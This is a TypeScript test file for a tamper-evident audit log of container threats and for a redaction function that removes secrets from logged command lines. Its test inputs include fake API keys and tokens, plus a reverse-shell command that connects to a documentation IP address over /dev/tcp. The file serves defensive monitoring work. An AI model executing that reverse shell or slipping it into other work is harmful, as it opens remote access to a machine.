import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { auditRecord, type ChainHead, chainRecord, chainStart, verifyLines } from './audit.ts';
import { redacted } from './redact.ts';
import type { Threat } from './threat.ts';

const threat: Threat = {
  level: 'high',
  category: 'process',
  title: 'A title',
  description: 'Something',
  evidence: { process: { command: 'x' } },
  key: 'k',
};
const about = { id: 'id', timestamp: '2026-01-02T03:04:05.000Z', container: 'coi-test-1' };

function log(count: number): { lines: string[]; head: ChainHead } {
  let head = chainStart;
  const lines = Array.from({ length: count }, (_, index) => {
    const next = chainRecord(
      head,
      auditRecord(about, { ...threat, title: `number ${index}` }, 'paused'),
    );
    head = next.head;
    return next.line.trimEnd();
  });
  return { lines, head };
}

test('an intact audit log verifies, even without its oldest part', () => {
  const { lines, head } = log(6);
  assert.deepEqual(verifyLines(lines, head).problems, []);
  assert.deepEqual(verifyLines(lines.slice(2), head).problems, []);
});

test('every change of an audit log is detected: a letter, a line, the order, the end', () => {
  const { lines, head } = log(6);
  fc.assert(
    fc.property(
      fc.nat(5),
      fc.nat(400),
      fc.constantFrom('change', 'remove', 'repeat', 'swap', 'cut'),
      (at, letter, how) => {
        const line = lines[at] ?? '';
        const index = letter % line.length;
        const changed =
          line.slice(0, index) + (line[index] === 'x' ? 'y' : 'x') + line.slice(index + 1);
        const forged = {
          change: lines.with(at, changed),
          remove: at === 0 ? lines.toSpliced(1, 1) : lines.toSpliced(at, 1),
          repeat: lines.toSpliced(at, 0, line),
          swap: lines.with(at, lines[(at + 1) % 6] ?? '').with((at + 1) % 6, line),
          cut: lines.slice(0, 5 - (at % 5)),
        }[how];
        assert.notDeepEqual(verifyLines(forged, head).problems, []);
      },
    ),
  );
});

test('a rewritten audit log does not match the saved head', () => {
  const { head } = log(6);
  assert.notDeepEqual(verifyLines(log(5).lines, head).problems, []);
});

test('no content can end an audit line early or control a terminal', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const { line } = chainRecord(
        chainStart,
        auditRecord(about, { ...threat, title: text, evidence: { [text]: text } }, 'logged'),
      );
      assert.match(line, /^[^\u0000-\u001f\u007f-\u009f]*\n$/);
      assert.deepEqual(verifyLines([line.trimEnd()]).problems, []);
    }),
  );
});

test('secrets on command lines are not logged', () => {
  const secret = 'Zx9Q2mBv7Kp4LrT8sWn3YcE6uHgF1aJd';
  for (const text of [
    `curl -H 'Authorization: Bearer ${secret}' https://example.com`,
    `export API_KEY=${secret}`,
    `tool --token ${secret}`,
    `tool --password=${secret}`,
    `git clone https://user:${secret}@example.com/x.git`,
    `echo ${secret}`,
    `ANTHROPIC_API_KEY="${secret}" claude`,
    'aws configure set key AKIAIOSFODNN7EXAMPLE',
    'echo ghp_abcdefghijklmnopqrstuvwxyz0123456789',
    'x sk-ant-api03-abcdefghijklmnop-qrstuv',
  ]) {
    const clean = redacted(text);
    assert.ok(!/Zx9Q2|IOSFODNN|ghp_abc|api03/.test(clean), clean);
  }
  assert.equal(
    redacted('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  );
  assert.equal(
    redacted('node /workspace/node_modules/.bin/vite --port 3000'),
    'node /workspace/node_modules/.bin/vite --port 3000',
  );
});
